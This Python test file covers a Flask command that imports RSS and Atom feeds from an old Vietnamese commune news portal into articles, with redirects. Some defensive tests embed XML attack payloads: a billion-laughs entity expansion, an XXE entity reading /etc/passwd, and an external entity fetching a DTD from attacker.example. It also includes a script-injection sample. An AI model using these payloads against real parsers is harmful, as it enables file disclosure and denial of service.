"""`flask import-feed`: RSS 2.0 and Atom items become articles; old item links answer 301."""

from datetime import UTC, datetime
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import func, select

from models import Article, Media, Redirect, db
from ops import importing

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
RSS = str(FIXTURES / "feed.rss")
ATOM = str(FIXTURES / "feed.atom")


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def article(title: str) -> Article:
    return db.session.scalar(select(Article).where(Article.title == title))


@pytest.fixture
def site_copy(tmp_path) -> str:
    """A copy of the old portal's files, by their paths on the old site."""
    folder = tmp_path / "cu" / "uploads" / "news" / "2020_02"
    folder.mkdir(parents=True)
    Image.new("RGB", (800, 600), (30, 140, 60)).save(folder / "lop-hoc.jpg", "JPEG")
    return str(tmp_path / "cu")


def run(runner, *args):
    result = runner.invoke(args=["import-feed", *args])
    assert result.exit_code == 0, result.output
    return result


def test_rss_items_become_published_articles(runner, site_copy, client):
    run(runner, RSS, "--uploads", site_copy)
    course = article("Khai giảng lớp học nghề đan lát")
    assert course.status == "published"
    assert course.publish_at == datetime(2020, 2, 3, 2, 15, tzinfo=UTC)  # 09:15 +07:00
    assert course.category.name == "Kinh tế"
    assert course.summary == "Ba mươi học viên tham gia lớp học nghề đan lát."
    assert "<p>Ba mươi học viên tham gia lớp học nghề đan lát mây tre.</p>" in course.body
    assert "script" not in course.body and "alert" not in course.body
    assert 'src="/media/' in course.body
    # The enclosure is the same photo: stored once, and the lead image.
    assert count(Media) == 1 and course.image_id is not None
    notice = article("Thông báo nghỉ Tết Nguyên đán")
    assert notice.body == "<p>Ủy ban nhân dân xã thông báo lịch nghỉ Tết Nguyên đán Canh Tý.</p>"
    answer = client.get("/news/kinh-te/khai-giang-lop-hoc-nghe-15.html")
    assert answer.status_code == 301 and answer.location == f"/tin/{course.slug}-{course.id}"


def test_atom_entries_with_html_and_xhtml_content(runner):
    run(runner, ATOM)
    road = article("Ra quân làm đường giao thông nông thôn")
    assert road.author == "Trần Văn Bình" and road.category.name == "Giao thông"
    assert road.summary == "Hơn hai trăm người dân cùng ra quân làm đường."
    assert road.body == "<p>Hơn hai trăm người dân thôn Đông cùng ra quân làm đường bê tông.</p>"
    assert road.publish_at == datetime(2021, 3, 10, 0, 30, tzinfo=UTC)
    forest = article("Họp dân bàn kế hoạch trồng rừng")
    assert forest.body == "<p>Thôn Tây họp dân bàn kế hoạch <strong>trồng rừng</strong>.</p>"
    # No zone given: the old site's local time, Asia/Ho_Chi_Minh.
    assert forest.publish_at == datetime(2021, 2, 1, 7, 0, tzinfo=UTC)


def test_without_the_files_images_are_reported_not_fetched(runner, monkeypatch):
    def no_internet(*_args, **_kwargs):
        raise AssertionError("fetched from the internet without --fetch")

    monkeypatch.setattr(importing.urllib.request, "urlopen", no_internet)
    result = run(runner, RSS)
    assert "lop-hoc.jpg" in result.output and count(Media) == 0
    assert count(Article) == 2


def test_fetch_downloads_the_images(runner, monkeypatch, site_copy):
    photo = Path(site_copy, "uploads", "news", "2020_02", "lop-hoc.jpg").read_bytes()
    asked = []

    def fake_download(url, limit):
        asked.append(url)
        return photo

    monkeypatch.setattr(importing, "download", fake_download)
    run(runner, RSS, "--fetch")
    assert asked[0] == "https://tanlap-cu.example/uploads/news/2020_02/lop-hoc.jpg"
    assert count(Media) == 1


def test_a_feed_url_is_fetched_because_the_operator_gave_it(runner, monkeypatch):
    monkeypatch.setattr(importing, "download", lambda url, limit: Path(ATOM).read_bytes())
    run(runner, "https://dongson-cu.example/feed.atom")
    assert count(Article) == 2


def test_running_twice_adds_nothing_and_a_dry_run_writes_nothing(runner):
    dry = run(runner, RSS, "--dry-run")
    assert "Chạy thử" in dry.output and "2 tin bài" in dry.output
    assert count(Article) == 0 and count(Redirect) == 0
    run(runner, RSS)
    again = run(runner, RSS)
    assert "đã nhập lần trước" in again.output
    assert count(Article) == 2 and count(Redirect) == 2


def test_attack_billion_laughs_in_a_feed_is_refused(runner):
    result = runner.invoke(args=["import-feed", str(FIXTURES / "billion_laughs.xml")])
    assert result.exit_code != 0 and "DTD" in result.output
    assert count(Article) == 0


def test_a_missing_file_or_other_xml_is_refused_clearly(runner, tmp_path):
    missing = runner.invoke(args=["import-feed", str(tmp_path / "khong-co.xml")])
    assert missing.exit_code != 0 and "Không tìm thấy tệp" in missing.output
    other = tmp_path / "ghi-chu.xml"
    other.write_text("<ghichu><dong>Họp thôn</dong></ghichu>", encoding="utf-8")
    refused = runner.invoke(args=["import-feed", str(other)])
    assert refused.exit_code != 0 and "không phải nguồn tin RSS hay Atom" in refused.output


NETSCAPE_DOCTYPE = (
    '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
    ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
)


def test_the_rss_091_netscape_doctype_is_accepted(runner, tmp_path):
    """A public DOCTYPE with no internal subset declares nothing and is harmless."""
    feed = tmp_path / "rss091.xml"
    text = Path(RSS).read_text(encoding="utf-8")
    feed.write_text(text.replace("?>\n", "?>\n" + NETSCAPE_DOCTYPE, 1), encoding="utf-8")
    run(runner, str(feed))
    assert article("Thông báo nghỉ Tết Nguyên đán") is not None


@pytest.mark.parametrize(
    "subset",
    ['[<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]',
     '[<!ENTITY xxe SYSTEM "file:///etc/passwd">]',
     '[<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]'],
)  # fmt: skip
def test_attack_a_doctype_declaring_entities_is_still_refused(runner, tmp_path, subset):
    feed = tmp_path / "doctype.xml"
    text = Path(RSS).read_text(encoding="utf-8")
    feed.write_text(text.replace("?>\n", f"?>\n<!DOCTYPE rss {subset}>\n", 1), encoding="utf-8")
    result = runner.invoke(args=["import-feed", str(feed)])
    assert result.exit_code != 0 and "tấn công" in result.output
    assert count(Article) == 0


@pytest.mark.parametrize("prefix", [b"\n\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf\r\n"])
def test_a_feed_with_a_blank_line_before_the_declaration_is_read(runner, tmp_path, prefix):
    feed = tmp_path / "dong-trong.xml"
    feed.write_bytes(prefix + Path(ATOM).read_bytes())
    run(runner, str(feed))
    assert count(Article) > 0


@pytest.mark.parametrize("encoding", ["windows-1258", "big5", "euc-kr", "gb2312", "iso-8859-1"])
def test_a_feed_in_a_declared_encoding_is_decoded(runner, tmp_path, encoding):
    title = {"big5": "中文標題", "euc-kr": "한국어 제목", "gb2312": "中文标题",
             "iso-8859-1": "Café à Hà Nội"}.get(encoding, "Tin xã Tân Lập")  # fmt: skip
    feed = tmp_path / "feed.xml"
    safe = title.encode(encoding, "xmlcharrefreplace").decode(encoding)
    feed.write_bytes(
        f'<?xml version="1.0" encoding="{encoding}"?>\n<rss version="2.0"><channel>'
        f"<title>x</title><link>https://cu.example/</link><item><title>{safe}</title>"
        "<link>https://cu.example/a.html</link><pubDate>Mon, 03 Feb 2020 09:15:00 +0700"
        "</pubDate><description>Nội dung</description></item></channel></rss>"
        .encode(encoding, "xmlcharrefreplace")
    )  # fmt: skip
    run(runner, str(feed))
    assert article(title) is not None
    assert article(title).body == "<p>Nội dung</p>"


def feed_file(tmp_path, items: str, channel: str = "", root: str = "rss") -> str:
    """A small feed of the old portal around the given items."""
    path = tmp_path / "nguon.xml"
    if root == "rss":
        text = ('<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
                f"<title>Xã cũ</title><link>https://xa-cu.example/tin/</link>{channel}{items}"
                "</channel></rss>")  # fmt: skip
    else:
        text = ('<?xml version="1.0" encoding="UTF-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom"'
                f' {channel}><title>Xã cũ</title><link href="https://xa-cu.example/"/>{items}'
                "</feed>")  # fmt: skip
    path.write_text(text, encoding="utf-8")
    return str(path)


def atom_entry_xml(title: str, number: int) -> str:
    return (f"<entry>{title}<id>tag:xa-cu,{number}</id><updated>2021-03-10T07:30:00+07:00"
            f"</updated><content type=\"html\">&lt;p&gt;Nội dung {number}.&lt;/p&gt;</content>"
            "</entry>")  # fmt: skip


def test_atom_html_and_xhtml_titles_read_as_text(runner, tmp_path):
    """An HTML title shows its words, not its tags; an XHTML title is read, not lost."""
    entries = (
        atom_entry_xml('<title type="html">Lễ hội &lt;b&gt;đình làng&lt;/b&gt; &amp;amp; '
                       "chợ quê</title>", 1)
        + atom_entry_xml('<title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Họp '
                         "<em>dân</em> thôn Tây</div></title>", 2)
        + atom_entry_xml('<title type="text">Lịch sử thẻ &lt;blink&gt;</title>', 3)
    )  # fmt: skip
    run(runner, feed_file(tmp_path, entries, root="atom"))
    assert article("Lễ hội đình làng & chợ quê") is not None
    assert article("Họp dân thôn Tây") is not None
    assert article("Lịch sử thẻ <blink>") is not None  # text is text
    assert article("Tin không có tiêu đề") is None


def test_unescaped_markup_in_a_description_is_read_and_reported(runner, tmp_path):
    items = (
        "<item><title>Thông báo mất điện</title><link>https://xa-cu.example/tin/1.html</link>"
        "<description><p>Thôn <b>Đông</b> mất điện từ 7 giờ.</p><script>x()</script>"
        "<p>Xin lỗi bà con.</p></description></item>"
    )
    result = run(runner, feed_file(tmp_path, items))
    notice = article("Thông báo mất điện")
    assert "<p>Thôn <strong>Đông</strong> mất điện từ 7 giờ.</p>" in notice.body
    assert "Xin lỗi bà con." in notice.body and "x()" not in notice.body
    assert "mô tả có HTML không mã hóa" in result.output
    assert "3 ký tự chữ nằm trong thẻ không được phép" in result.output  # "x()" was dropped


def test_twice_encoded_utf8_is_mended(runner, tmp_path):
    """An old PHP site that encoded its UTF-8 twice wrote "Ä‘Æ°á»ng" for "đường"."""
    title = "Sửa đường liên thôn Đông"
    body = "Bà con thôn Đông góp công sửa đường."
    twice = [text.encode("utf-8").decode("latin-1") for text in (title, body)]
    items = (f"<item><title>{twice[0]}</title><link>https://xa-cu.example/tin/2.html</link>"
             f"<description>{twice[1]}</description></item>")  # fmt: skip
    run(runner, feed_file(tmp_path, items))
    road = article(title)
    assert road is not None and road.body == f"<p>{body}</p>"


def test_relative_links_resolve_against_xml_base_and_the_feed(runner, tmp_path):
    entries = (
        '<entry xml:base="https://luu-tru.example/2021/"><title>Tin một</title>'
        "<id>tag:xa-cu,1</id><updated>2021-03-10T07:30:00+07:00</updated>"
        '<content type="html">&lt;p&gt;&lt;a href="van-ban/qd-12.pdf"&gt;Quyết định&lt;/a&gt;'
        '&lt;/p&gt;</content></entry>'
        "<entry><title>Tin hai</title><id>tag:xa-cu,2</id>"
        "<updated>2021-03-10T07:30:00+07:00</updated>"
        '<content type="html">&lt;p&gt;&lt;a href="tin/khac.html"&gt;Tin khác&lt;/a&gt; '
        '&lt;a href="https://noi-khac.example/a"&gt;ngoài&lt;/a&gt;&lt;/p&gt;</content></entry>'
    )
    run(runner, feed_file(tmp_path, entries, root="atom"))
    assert 'href="https://luu-tru.example/2021/van-ban/qd-12.pdf"' in article("Tin một").body
    second = article("Tin hai").body
    assert 'href="/tin/khac.html"' in second  # the old site's own link: its redirect answers
    assert 'href="https://noi-khac.example/a"' in second


def test_rss_1_0_and_atom_0_3_feeds_are_read(runner, tmp_path):
    rdf = tmp_path / "rss10.xml"
    rdf.write_text(
        '<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
        ' xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        '<channel rdf:about="https://xa-cu.example/"><title>Xã cũ</title>'
        "<link>https://xa-cu.example/</link></channel>"
        '<item rdf:about="https://xa-cu.example/tin/9.html"><title>Tin RSS 1.0</title>'
        "<link>https://xa-cu.example/tin/9.html</link><description>Nội dung chín.</description>"
        "<dc:date>2020-02-03T09:15:00+07:00</dc:date></item></rdf:RDF>",
        encoding="utf-8",
    )
    run(runner, str(rdf))
    assert article("Tin RSS 1.0").body == "<p>Nội dung chín.</p>"
    atom03 = tmp_path / "atom03.xml"
    atom03.write_text(
        '<?xml version="1.0"?><feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry>'
        '<title type="text/html" mode="escaped">Tin &lt;i&gt;Atom 0.3&lt;/i&gt;</title>'
        "<issued>2004-01-01T10:00:00Z</issued><id>tag:x,1</id>"
        '<content type="text/html" mode="escaped">&lt;p&gt;Nội dung.&lt;/p&gt;</content>'
        "</entry></feed>",
        encoding="utf-8",
    )
    run(runner, str(atom03))
    assert article("Tin Atom 0.3").body == "<p>Nội dung.</p>"


def test_a_feed_without_items_exits_with_an_error(runner, tmp_path):
    result = runner.invoke(args=["import-feed", feed_file(tmp_path, "")])
    assert result.exit_code != 0 and "không có mục nào" in result.output


def test_html_named_entities_in_a_feed_are_read(runner, tmp_path, monkeypatch):
    """Portals write &nbsp; and &eacute; in their feeds without a DTD declaring them."""
    monkeypatch.setattr(importing.GuardedReader, "read",
                        lambda self, size=-1: bytes_read(self, 7))  # entities cut by chunks
    items = ("<item><title>Caf&eacute;&nbsp;s&aacute;ng &amp; chiều</title>"
             "<link>https://xa-cu.example/tin/3.html</link>"
             "<description>Gi&aacute; 10&nbsp;000 đồng&hellip;</description></item>")  # fmt: skip
    run(runner, feed_file(tmp_path, items))
    coffee = article("Café\xa0sáng & chiều") or article("Café sáng & chiều")
    assert coffee is not None and "Giá 10" in coffee.body and "đồng…" in coffee.body


def bytes_read(reader, size: int) -> bytes:
    data = reader.handle.read(size)
    reader.position += len(data)
    return data
